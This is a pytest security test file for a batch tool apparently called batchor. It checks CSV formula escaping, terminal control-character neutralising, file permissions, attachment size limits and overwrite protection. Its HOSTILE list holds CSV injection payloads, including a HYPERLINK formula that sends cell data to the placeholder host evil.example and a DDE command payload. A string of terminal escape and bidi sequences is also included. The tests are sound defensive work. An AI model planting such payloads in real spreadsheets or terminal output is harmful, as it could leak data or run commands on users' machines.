"""Outputs and terminal text are data: CSV formulas escaped, control characters shown, never run."""

from __future__ import annotations

import csv

import pyarrow.parquet as pq
import pytest

from batchor import api
from batchor.cli.colour import coloured, terminal_safe
from batchor.cli.results import _print_records
from batchor.cli.tables import escape
from batchor.errors import OutputExistsError
from tests.conftest import write_csv
from tests.security.hostile import project, write_job  # noqa: F401 - the fixture

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "-1+HYPERLINK(1)",
]
KEPT = ["-5", "+1.5e3", "plain", "a=b"]


def _cells(path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [row["text"] for row in csv.DictReader(handle)]


def test_csv_output_escapes_formula_cells_but_not_numbers(project):
    spec = write_job(project)
    write_csv(project / "data.csv", [{"id": f"r{i}", "text": t} for i, t in enumerate(HOSTILE + KEPT)])
    api.apply(spec)
    cells = _cells(project / "out" / "results.csv")
    assert cells == ["'" + t for t in HOSTILE] + KEPT


def test_formula_escaping_can_be_turned_off(project):
    spec = write_job(project, output={"path": "out/results.csv", "escape_formulas": False})
    write_csv(project / "data.csv", [{"id": f"r{i}", "text": t} for i, t in enumerate(HOSTILE)])
    api.apply(spec)
    assert _cells(project / "out" / "results.csv") == HOSTILE


def test_parquet_output_keeps_values_as_they_are(project):
    spec = write_job(project, output={"path": "out/results.parquet"})
    write_csv(project / "data.csv", [{"id": "r0", "text": HOSTILE[0]}])
    result = api.apply(spec)
    assert result.status == "succeeded"
    assert pq.read_table(project / "out" / "results.parquet").column("text").to_pylist() == [HOSTILE[0]]


ESCAPES = "title\x1b]0;pwned\x07 clear\x1b[2J back\rover bidi\u202eevil\u202c"


def test_terminal_text_shows_control_characters_instead_of_running_them(tmp_path, capsys):
    safe = terminal_safe(ESCAPES)
    assert not any(ch in safe for ch in "\x1b\x07\r\u202e")
    assert "\\x1b]0;pwned\\x07" in safe and "\\u202e" in safe
    assert terminal_safe("tab\tand\nnewline stay") == "tab\tand\nnewline stay"
    with open(tmp_path / "f", "w", encoding="utf-8") as stream:
        assert "\x1b" not in coloured(ESCAPES, stream) and "\x1b" not in escape(ESCAPES)
    table = tmp_path / "r.csv"
    write_csv(table, [{"_row_key": "r0", "answer": ESCAPES}])
    _print_records(table, 20)
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\\x1b[2J" in printed


def test_output_files_are_owner_only_like_the_state(project):
    spec = write_job(project)
    api.apply(spec)
    assert (project / "out" / "results.csv").stat().st_mode & 0o777 == 0o600


def test_an_attachment_too_big_for_any_request_is_refused_from_its_size_without_reading_it(project):
    import resource

    with open(project / "huge.png", "wb") as handle:
        handle.truncate(1536 << 20)  # 1.5 GB, sparse: no disk used
    spec = write_job(project, steps={"classify": {"prompt": "{{ row.text }}", "attachments": ["row.image"]}})
    write_csv(project / "data.csv", [{"id": "r0", "text": "x", "image": "huge.png"}])
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = api.apply(spec)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert result.failed == 1 and "attachment_too_large" in str(result.errors().to_pylist())
    assert grown_mb < 500  # reading it would take 1,536 MB


def test_the_specs_output_never_replaces_a_file_batchor_did_not_write(project):
    notes = project / "notes.md"
    notes.write_text("my notes\n", encoding="utf-8")
    spec = write_job(project, output={"path": "notes.md", "format": "csv"})
    with pytest.raises(OutputExistsError) as exc:
        api.apply(spec)
    assert exc.value.code == "file_exists" and "--force" in exc.value.hint
    assert notes.read_text(encoding="utf-8") == "my notes\n"
    assert api.apply(spec, force=True).status == "succeeded" and "_row_key" in notes.read_text(encoding="utf-8")


def test_a_file_batchor_wrote_is_replaced_on_the_next_run(project):
    spec = write_job(project)
    api.apply(spec)
    write_csv(project / "data.csv", [{"id": "r9", "text": "new row"}])
    assert api.apply(spec).status == "succeeded"
    assert "r9" in (project / "out" / "results.csv").read_text(encoding="utf-8")
